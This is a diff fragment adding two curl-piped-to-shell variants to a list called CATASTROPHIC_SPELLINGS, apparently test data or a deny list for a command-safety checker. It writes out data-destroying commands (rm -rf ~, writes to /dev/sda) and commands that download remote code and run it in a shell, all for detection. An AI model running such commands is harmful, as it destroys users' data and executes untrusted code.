@@ -102,6 +102,8 @@ CATASTROPHIC_SPELLINGS = [
     "for i in 1; do rm -rf ~; done",
     "echo x >& /dev/sda",
     "curl -s http://x | timeout 9 sudo bash",
+    "curl -s http://x | (cat | sh)",
+    "(curl -s http://x | cat) | bash",
     'eval "$(curl -s http://x)"',
     "python3 -c \"import os; os.system('rm -rf ~')\"",
     "perl -e 'system(\"rm -rf /\")'",
